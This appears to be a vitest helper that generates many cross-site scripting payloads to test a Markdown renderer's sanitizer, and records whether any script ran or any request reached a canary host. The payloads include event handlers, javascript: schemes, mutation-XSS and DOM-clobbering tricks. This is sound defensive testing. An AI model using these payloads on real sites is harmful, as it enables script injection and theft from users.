// Texts that try to run or to load something from a page of Markdown, and a watch over whether one did.
import { onTestFinished } from "vitest";

/** Where a payload would report, were it run or loaded. */
const trap = "https://trap.invalid/hit";

const run = ["window.top.__hit=1", "parent.__hit=1", "top.__hit=1", "alert(1)", `fetch('${trap}')`];

/** Elements that run a script by an event of their own. */
const events: readonly [element: string, events: readonly string[]][] = [
  ["img src=x", ["onerror", "onload", "onmouseover", "onfocus", "onclick"]],
  ["svg", ["onload", "onclick", "onfocusin", "onbegin"]],
  ["body", ["onload", "onpageshow", "onhashchange", "onscroll"]],
  ["details open", ["ontoggle"]],
  ["video src=x", ["onerror", "onloadstart"]],
  ["audio src=x", ["onerror", "oncanplay"]],
  ["input autofocus", ["onfocus", "onblur"]],
  ["select autofocus", ["onfocus"]],
  ["textarea autofocus", ["onfocus"]],
  ["marquee", ["onstart", "onfinish"]],
  ["div tabindex=1 autofocus", ["onfocus", "onwheel", "onpointerenter", "onbeforematch"]],
  ["a href=#", ["onclick", "onmouseenter", "onauxclick"]],
  ["p style='animation:x 1s'", ["onanimationstart", "ontransitionend"]],
];

const schemes = [
  ...["javascript:", "JaVaScRiPt:", "java\tscript:", "java&#10;script:", "&#106;avascript:", "\u0001javascript:", " javascript:"],
  ...["vbscript:", "data:text/html,", "data:text/html;base64,", "data:image/svg+xml,", "blob:", "filesystem:", "view-source:javascript:"],
];

const whole = [
  `<script>${run[0]}</script>`,
  `<script src="${trap}"></script>`,
  `<ScRiPt>${run[1]}</sCrIpT>`,
  `<scr<script>ipt>${run[0]}</scr</script>ipt>`,
  `<iframe src="${trap}"></iframe>`,
  `<iframe srcdoc="<script>${run[1]}</script>"></iframe>`,
  `<object data="${trap}"></object>`,
  `<embed src="${trap}">`,
  `<link rel="stylesheet" href="${trap}">`,
  `<link rel="prefetch" href="${trap}">`,
  `<link rel="dns-prefetch" href="//trap.invalid">`,
  `<base href="https://trap.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=${trap}">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run[1]}">`,
  `<style>@import "${trap}"; body { background: url(${trap}) }</style>`,
  `<div style="background:url(${trap})">x</div>`,
  `<table background="${trap}"><tr><td background="${trap}">x</td></tr></table>`,
  `<form action="${trap}"><input type="submit"><button formaction="${trap}">x</button></form>`,
  `<img src="${trap}">`,
  `<img srcset="${trap} 2x">`,
  `<picture><source srcset="${trap}"><img src="${trap}"></picture>`,
  `<video poster="${trap}"><source src="${trap}"></video>`,
  `<audio src="${trap}" autoplay></audio>`,
  `<svg><script>${run[0]}</script></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${run[1]}>#x"/></svg>`,
  `<svg><image href="${trap}"/></svg>`,
  `<svg><foreignObject><iframe src="${trap}"></iframe></foreignObject></svg>`,
  `<svg><animate onbegin=${run[1]} attributeName=x dur=1s></svg>`,
  `<svg><a xlink:href="javascript:${run[1]}"><text>x</text></a></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--><img src=1 onerror=${run[1]}>">`,
  `<math href="javascript:${run[1]}">x</math>`,
  `<math><annotation-xml encoding="text/html"><script>${run[0]}</script></annotation-xml></math>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run[1]}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run[1]}>">`,
  `<template><img src=x onerror=${run[1]}></template>`,
  `<template shadowrootmode=open><script>${run[0]}</script></template>`,
  `<isindex type=image src=1 onerror=${run[1]}>`,
  `<img name=querySelector><img name=body><form name=querySelectorAll></form><a id=defaultView></a>`,
  `<form id=documentElement><input name=attributes><input name=parentNode></form>`,
  `<a href="${trap}" ping="${trap}" target="_top">x</a>`,
  `<a href="//trap.invalid" target="_blank" rel="opener">x</a>`,
  `<area href="javascript:${run[1]}" shape=default>`,
  `<map name=m><area href="${trap}"></map><img usemap=#m src="${trap}">`,
  `<xss id=x tabindex=1 onactivate=${run[1]}></xss>`,
  `<x-element><script>${run[0]}</script></x-element>`,
  `<div popover onbeforetoggle=${run[1]} id=p>x</div><button popovertarget=p>x</button>`,
  `<dialog open><form method=dialog><button>x</button></form></dialog>`,
  `<plaintext hidden>x</plaintext>`.replace("plaintext", "xmp"),
  `<!--[if gte IE 4]><script>${run[0]}</script><![endif]-->`,
  `<?xml version="1.0"?><script xmlns="http://www.w3.org/1999/xhtml">${run[0]}</script>`,
  `<![CDATA[<script>${run[0]}</script>]]>`,
  `![x](javascript:${run[1]})`,
  `![x](${trap} "t\\" onerror=${run[1]} x=\\"")`,
  `[x]: javascript:${run[1]}\n\n[x]`,
  `<javascript:${run[1]}>`,
  "`<img src=x onerror=parent.__hit=1>`",
  "```html\n<img src=x onerror=parent.__hit=1>\n```",
  '```"><img/src=x/onerror=parent.__hit=1>\nx\n```',
  `# <img src=x onerror=${run[1]}>`,
  `| <img src=x onerror=${run[1]}> | b |\n|---|---|\n| <svg onload=${run[1]}> | <script>${run[0]}</script> |`,
  `> [!NOTE]\n> <img src=x onerror=${run[1]}>`,
  `- [ ] <img src=x onerror=${run[1]}>`,
  `&lt;img src=x onerror=${run[1]}&gt;`,
  `\u003cimg src=x onerror=${run[1]}\u003e`,
];

/** Every payload, and what came of them: what was run, and addresses outside that were asked for. */
export function watchPayloads(): { payloads: readonly string[]; hits: () => string[] } {
  const payloads = [
    ...whole,
    ...events.flatMap(([element, names]) => names.flatMap((name) => run.map((code) => `<${element} ${name}="${code}">`))),
    ...schemes.flatMap((scheme) => run.slice(1).flatMap((code) => [`[x](<${scheme}${code}>)`, `<a href="${scheme}${code}">x</a>`])),
    ...schemes.map((scheme) => `<iframe src="${scheme}${run[1]}"></iframe><img src="${scheme}${run[1]}">`),
  ];
  const asked: string[] = [];
  const watch = new PerformanceObserver((list) => asked.push(...list.getEntries().map(({ name }) => name)));
  watch.observe({ type: "resource" });
  const alerted: string[] = [];
  const { alert } = window;
  window.alert = (said) => alerted.push(String(said));
  onTestFinished(() => {
    watch.disconnect();
    window.alert = alert;
  });
  const hits = (): string[] => {
    const frames = [...document.querySelectorAll("iframe")].map(
      (frame) => frame.contentWindow?.performance.getEntriesByType("resource") ?? [],
    );
    const names = [...asked, ...frames.flat().map(({ name }) => name)];
    const ran = [window, window.top].some((one) => one !== null && "__hit" in one) ? ["a script ran"] : [];
    return [...ran, ...alerted, ...names.filter((name) => name.includes("trap.invalid"))];
  };
  return { payloads, hits };
}
